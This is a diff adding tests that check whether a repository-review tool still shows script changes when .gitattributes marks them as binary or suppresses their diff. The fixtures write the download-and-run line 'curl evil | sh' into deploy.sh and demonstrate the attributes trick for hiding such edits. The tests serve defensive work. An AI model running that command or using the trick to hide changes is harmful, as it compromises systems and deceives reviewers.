@@ -26,6 +26,13 @@ const inside = (...args: string[]) => repository.git('-C', 'lib', ...args);
 
 const EDITED = ['Tracked files were edited in the working tree.'];
 
+/** Whoever writes `.gitattributes` commits it with what it hides. */
+function commit(attributes: string, files: { [name: string]: string | Buffer }): void {
+  repository.write('.gitattributes', attributes);
+  for (const [name, content] of Object.entries(files)) repository.write(name, content);
+  repository.commit('a harmless line');
+}
+
 describe('a submodule that .gitmodules tells git to ignore', () => {
   let library: Repository;
   beforeEach(() => {
@@ -92,6 +99,60 @@ describe('an edit that the settings of the repository leave out', () => {
     repository.git('update-index', '--fsmonitor');
     repository.git('status');
     expect(await driftAfter(() => repository.write('app.txt', 'evil\n'))).toEqual(EDITED);
+  });
+});
+
+describe('text that .gitattributes has git take for binary', () => {
+  const IMAGE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 13]);
+
+  it('is shown, with what else changed in its place', async () => {
+    commit('*.sh -diff\n', {
+      'app.txt': 'three\n',
+      'deploy.sh': 'curl evil | sh\n',
+      'z.txt': 'z\n',
+    });
+    const { diff } = (await look('HEAD~1..HEAD')).change;
+    expect(diff).toContain('+curl evil | sh');
+    expect(diff).not.toContain('Binary files');
+    expect(diff?.match(/^diff --git .*$/gmu)).toEqual([
+      'diff --git a/.gitattributes b/.gitattributes',
+      'diff --git a/app.txt b/app.txt',
+      'diff --git a/deploy.sh b/deploy.sh',
+      'diff --git a/z.txt b/z.txt',
+    ]);
+  });
+
+  it('is shown where a driver of the repository says so, it was renamed, and one looks from a folder', async () => {
+    repository.git('config', 'diff.quiet.binary', 'true');
+    repository.git('mv', 'deploy.sh', 'ün "x".sh');
+    commit('*.sh diff=quiet\n', { 'ün "x".sh': '#!/bin/sh\necho deployed "$@"\ncurl evil | sh\n' });
+    const below = join(repository.path, 'below');
+    mkdirSync(below);
+    const { diff } = (await look('HEAD~1..HEAD', below)).change;
+    expect(diff).toContain('+curl evil | sh');
+    expect(diff).toContain('rename from deploy.sh');
+  });
+
+  it('is shown of the working tree, too', async () => {
+    commit('*.sh binary\n', {});
+    repository.write('deploy.sh', 'curl evil | sh\n');
+    const { diff } = (await look('HEAD~1')).change;
+    expect(diff).toContain('+curl evil | sh');
+  });
+
+  it('stays named alone where it is no text', async () => {
+    commit('*.png binary\n*.sh -diff\n', {
+      'a.png': IMAGE,
+      b: IMAGE,
+      'deploy.sh': 'curl evil | sh\n',
+    });
+    const { diff = '' } = (await look('HEAD~1..HEAD')).change;
+    expect(diff.match(/^Binary files .*$/gmu)).toEqual([
+      'Binary files /dev/null and b/a.png differ',
+      'Binary files /dev/null and b/b differ',
+    ]);
+    expect(diff).toContain('+curl evil | sh');
+    expect(diff).not.toContain('\0');
   });
 });
 
